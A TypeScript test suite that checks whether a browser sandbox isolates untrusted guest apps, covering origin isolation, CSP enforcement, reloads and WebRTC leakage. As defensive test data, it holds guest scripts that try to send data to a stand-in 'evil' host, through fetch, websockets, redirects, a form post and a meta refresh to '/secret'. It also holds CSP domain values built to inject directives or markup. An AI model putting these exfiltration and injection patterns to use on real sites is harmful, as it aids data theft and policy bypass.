import { createSocket } from 'node:dgram';
import { once } from 'node:events';
import { describe, expect, onTestFinished, test } from 'vitest';
import { openBrowser } from '../support/browser.js';
import { eventually } from '../support/eventually.js';
import { page, renewPage, useSandbox, world } from './fixture.js';
import {
  mountApp,
  mountAt,
  mountOpaque,
  mountStatic,
  mountUndefended,
  openHost,
  toGuest,
  waitFor,
  waitForFrame,
  type Mounted,
} from './support.js';

useSandbox({ subdomains: false });

const probe = (origin: string): Promise<boolean> =>
  page.evaluate(
    (url) =>
      fetch(url, { mode: 'no-cors' }).then(
        () => true,
        () => false,
      ),
    `${origin}/probe`,
  );

test('control: names below localhost do not resolve here, so the three-origin sandbox stays silent', async () => {
  expect(await probe(world.base.replace('//', '//sandbox.'))).toBe(false);
  expect(await probe(world.opaqueBase)).toBe(true);
  const app = await mountApp(page, world, toGuest(''), { hostOrigin: world.localhostOrigin });
  await eventually(() => page.frames().at(-1)?.url()).toBe('chrome-error://chromewebdata/');
  expect(await app.messages()).toEqual([]);
});

test('where the names resolve the probe says so, also across sites', async () => {
  const resolving = await openBrowser();
  const host = await openHost(resolving, world.localhostOrigin);
  const url = `${world.base.replace('//', '//sandbox.')}/probe`;
  expect(await host.evaluate((address) => fetch(address, { mode: 'no-cors' }).then(() => true), url)).toBe(
    true,
  );
  await host.close();
});

const toProbes = (evil: string): string => `
const add = (name, values) => document.body.append(Object.assign(document.createElement(name), values));
fetch('${evil}/fetch', { mode: 'no-cors' }).catch(() => {});
add('img', { src: '${evil}/img' });
add('script', { src: '${evil}/script.js' });
new WebSocket('${evil.replace('http', 'ws')}/ws').onerror = () => {};
add('iframe', { src: '${evil}/frame' });`;

const seen = (): string[] => [...new Set(world.hits)].sort();

test('control: without the sandbox each of these requests arrives', async () => {
  await mountUndefended(page, world.servePlain('/all', toGuest(toProbes(world.evil))), 'allow-scripts');
  await eventually(seen).toEqual(['/fetch', '/frame', '/img', '/script.js', '/ws']);
});

const fallbacks: Record<string, (html: string, csp?: object) => Promise<Mounted>> = {
  'the opaque proxy': (html, csp) => mountOpaque(page, world, html, { csp }),
  'the static file': (html, csp) => mountStatic(page, world, html, csp),
};

describe.each(Object.keys(fallbacks))('%s', (name) => {
  const mount = (html: string, csp?: object): Promise<Mounted> => {
    const create = fallbacks[name];
    if (!create) throw new Error(`There is no fallback called ${name}.`);
    return create(html, csp);
  };

  test('runs the app in an opaque origin, out of reach of proxy and host', async () => {
    const reaches = `
      const attempt = (reach) => { try { reach(); return 'reached'; } catch (error) { return error.name; } };
      say('origin', origin); say('mode', document.compatMode);
      say('reach', [() => parent.document.body, () => top.document.body, () => localStorage.length, () => document.cookie].map(attempt));`;
    const app = await mount(toGuest(reaches));
    expect(await waitFor(app, 'origin')).toBe('null');
    expect(await waitFor(app, 'mode')).toBe('CSS1Compat');
    expect(await waitFor(app, 'reach')).toEqual(Array(4).fill('SecurityError'));
    await eventually(() => app.sandboxMessages('frame-loaded')).toEqual([
      { sinceLoaderReady: 1 },
      { sinceLoaderReady: 2, app: true },
    ]);
  });

  test('keeps the app from everything it did not declare, whatever its HTML begins with', async () => {
    for (const decoy of ['<!doctype html>', '<!--<head>-->', '<title><head></title>']) {
      const app = await mount(toGuest(toProbes(world.evil), decoy));
      await waitFor(app, 'ran');
      await eventually(async () =>
        (await app.sandboxMessages('violation')).map(({ directive }) => directive),
      ).toEqual(expect.arrayContaining(['connect-src', 'img-src', 'script-src-elem', 'frame-src']));
    }
    expect(world.hits).toEqual([]);
  });

  test('lets the app reach what it declared, but no frame domain', async () => {
    const origins = [world.evil, world.evil.replace('http', 'ws')];
    const csp = { connectDomains: origins, resourceDomains: [world.evil], frameDomains: [world.evil] };
    const app = await mount(toGuest(toProbes(world.evil)), csp);
    await eventually(seen).toEqual(['/fetch', '/img', '/script.js', '/ws']);
    // The static file's policies are stacked, and each of them reports.
    const directives = async () => (await app.sandboxMessages('violation')).map(({ directive }) => directive);
    await eventually(async () => [...new Set(await directives())]).toEqual(['frame-src']);
  });

  test('drops poisoned domains and runs the app', async () => {
    const poisoned = [
      `${world.evil}; script-src *`,
      '*',
      `x ${world.evil}`,
      '"><script>',
      null,
      world.staticOrigin,
    ];
    const app = await mount(toGuest(toProbes(world.evil)), {
      connectDomains: poisoned,
      resourceDomains: poisoned,
    });
    await waitFor(app, 'ran');
    await eventually(async () => (await app.sandboxMessages('violation')).length).toBeGreaterThan(3);
    expect(world.hits).toEqual([]);
  });

  test('lets the app leave nowhere, and shows that it tried', async () => {
    const exits = [
      `location = '${world.evil}/secret';`,
      `document.body.innerHTML = '<form method="post" action="${world.evil}/secret"></form>'; document.forms[0].submit();`,
      `document.head.innerHTML = '<meta http-equiv="refresh" content="0;url=${world.evil}/secret">';`,
      `location = 'data:text/html,<script>parent.postMessage({ jsonrpc: "2.0", method: "from-outside" }, "*")<\\/script>';`,
    ];
    const attempts = exits.map(async (script) => {
      const app = await mount(toGuest(`setTimeout(() => { ${script} }, 300);`), { connectDomains: [] });
      await waitFor(app, 'ran');
      await eventually(async () =>
        (await app.sandboxMessages('frame-loaded')).map(({ sinceLoaderReady }) => sinceLoaderReady),
      ).toContain(3);
      expect((await app.messages()).map(({ method }) => method)).not.toContain('from-outside');
    });
    await Promise.all(attempts);
    expect(world.hits).toEqual([]);
  });

  test('gives a reloading app its HTML again', async () => {
    const reloads = `addEventListener('message', ({ data }) => { if (data.method === 'reload') location.reload(); });`;
    const app = await mount(toGuest(reloads));
    await waitFor(app, 'ran');
    await app.post({ jsonrpc: '2.0', method: 'reload' });
    await eventually(() => app.sandboxMessages('loader-ready')).toHaveLength(2);
    await eventually(() => app.said('ran')).toHaveLength(2);
    // The first document's load may be told too late to count; none of them may pass for an app that went away.
    await eventually(async () => (await app.sandboxMessages('frame-loaded')).at(-1)).toEqual({
      sinceLoaderReady: 2,
      app: true,
    });
    for (const load of await app.sandboxMessages('frame-loaded')) expect(load).not.toHaveProperty('left');
  });

  test('keeps an app alive that links to a part of itself', async () => {
    const links = `setTimeout(() => { document.body.innerHTML += '<a href="#part">x</a>'; document.links[0].click();
      setTimeout(() => say('hash', location.hash), 300); }, 300);`;
    expect(await waitFor(await mount(toGuest(links)), 'hash')).toBe('#part');
  });
});

test('the opaque app sends no WebRTC packet', async () => {
  const toRtc = (port: number): string => `say('begins', true);
    const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${port}' }] });
    peer.createDataChannel('x'); peer.createOffer().then((offer) => peer.setLocalDescription(offer));`;
  const rtc = toRtc(world.stunPort);
  await mountUndefended(page, world.servePlain('/rtc', toGuest(rtc)), 'allow-scripts');
  await eventually(world.packets).toBeGreaterThan(0);
  await renewPage({ subdomains: false });
  world.forget();
  // Chromium may end the guest's process over it; the host page must not notice more than that.
  await waitFor(await mountOpaque(page, world, toGuest(rtc)), 'begins');
  // Nothing tells that no packet will come; one that was begun later, and may go elsewhere, has arrived.
  const later = createSocket('udp4');
  onTestFinished(() => void later.close());
  await new Promise<void>((resolve) => later.bind(0, '127.0.0.1', resolve));
  const arrival = once(later, 'message');
  const html = toGuest(toRtc(later.address().port));
  await mountUndefended(page, world.servePlain('/rtc-later', html), 'allow-scripts');
  await arrival;
  expect(world.packets()).toBe(0);
});

test('the static file does nothing on the host’s own origin or without a host', async () => {
  const { localhostOrigin, staticOrigin } = world;
  const same = `#host=${encodeURIComponent(localhostOrigin)}`;
  const attempts: [string, string][] = [
    [`${localhostOrigin}/static-proxy.html${same}`, localhostOrigin],
    [`${staticOrigin}/static-proxy.html`, staticOrigin],
    [`${staticOrigin}/static-proxy.html#host=https%3A%2F%2Fevil.example`, staticOrigin],
  ];
  const apps: Mounted[] = [];
  for (const [proxyUrl, proxyOrigin] of attempts) {
    apps.push(await mountAt(page, { proxyUrl, proxyOrigin, appOrigin: 'null', html: toGuest('') }));
    await waitForFrame(page, proxyUrl);
  }
  // Control: on its second origin, told its host, it does start; the others, begun before, would have spoken by then.
  await waitFor(await mountStatic(page, world, toGuest('')), 'ran');
  for (const app of apps) expect(await app.messages()).toEqual([]);
});
